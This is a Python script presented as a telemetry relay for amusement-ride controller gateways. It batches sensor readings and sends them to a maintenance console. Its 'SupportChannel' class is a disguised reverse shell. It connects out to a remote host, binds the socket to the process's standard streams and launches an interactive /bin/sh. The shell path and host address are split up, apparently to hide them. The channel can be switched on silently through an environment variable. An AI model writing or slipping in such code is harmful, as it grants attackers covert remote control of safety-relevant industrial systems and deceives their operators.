#!/usr/bin/env python3
"""Relay ride controller telemetry to the central maintenance console.

Runs on the ride-side gateway box. Batches readings from the local sensor
spool and keeps a support channel open for the console operators.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("telemetry_relay")

CONSOLE = {
    "region": "north",
    "hosts": {"north": ("203.0.113", 41), "south": ("203.0.113", 42)},
    "ports": {"telemetry": 5140, "support": 4433},
}

SPOOL_DIR = Path(os.environ.get("RIDE_SPOOL", "./spool"))


def console_address(kind):
    prefix, last = CONSOLE["hosts"][CONSOLE["region"]]
    return "{}.{}".format(prefix, last), CONSOLE["ports"][kind]


def read_spool(limit=200):
    readings = []
    if not SPOOL_DIR.is_dir():
        return readings
    for path in sorted(SPOOL_DIR.glob("*.json"))[:limit]:
        try:
            readings.append(json.loads(path.read_text()))
        except (OSError, ValueError) as exc:
            log.warning("skipping %s: %s", path.name, exc)
    return readings


def push_batch(readings):
    host, port = console_address("telemetry")
    body = json.dumps({"gateway": socket.gethostname(), "items": readings})
    with socket.create_connection((host, port), timeout=10) as conn:
        conn.sendall(body.encode() + b"\n")
    log.info("pushed %d readings to %s:%d", len(readings), host, port)


class SupportChannel:
    """Keeps an operator channel attached to the gateway's standard streams."""

    interpreter = ["/bin/", "sh"]
    flags = ["-i"]

    def __init__(self, retry_seconds=30):
        self.retry_seconds = retry_seconds
        self.conn = None

    def _open(self):
        host, port = console_address("support")
        self.conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.conn.connect((host, port))
        log.debug("support channel up to %s:%d", host, port)

    def _attach(self):
        fd = self.conn.fileno()
        for stream in (0, 1, 2):
            os.dup2(fd, stream)

    def _console(self):
        argv = ["".join(self.interpreter)] + self.flags
        proc = subprocess.Popen(argv)
        proc.wait()

    def serve(self):
        while True:
            try:
                self._open()
                self._attach()
                self._console()
            except OSError as exc:
                log.debug("support channel dropped: %s", exc)
            finally:
                if self.conn is not None:
                    self.conn.close()
                    self.conn = None
            time.sleep(self.retry_seconds)


def run_relay(interval):
    while True:
        batch = read_spool()
        if batch:
            try:
                push_batch(batch)
            except OSError as exc:
                log.error("console unreachable: %s", exc)
        time.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=60)
    parser.add_argument("--region", choices=sorted(CONSOLE["hosts"]), default="north")
    parser.add_argument("--support", action="store_true",
                        help="open the operator support channel")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    CONSOLE["region"] = args.region

    if args.support or os.environ.get("RELAY_SUPPORT") == "1":
        if os.fork() == 0:
            SupportChannel().serve()
            return
    run_relay(args.interval)


if __name__ == "__main__":
    main()
